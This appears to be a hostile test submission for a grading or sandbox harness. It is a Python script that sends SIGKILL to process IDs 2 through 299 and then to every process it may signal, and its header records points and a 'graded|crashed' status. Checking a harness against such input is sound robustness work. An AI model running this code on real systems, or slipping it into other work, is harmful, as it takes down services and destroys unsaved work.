# Kills every process that it may, one by one and all at once.
# base: right
# points: 33
# status: graded|crashed
# %%
import os
import signal

for pid in range(2, 300):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
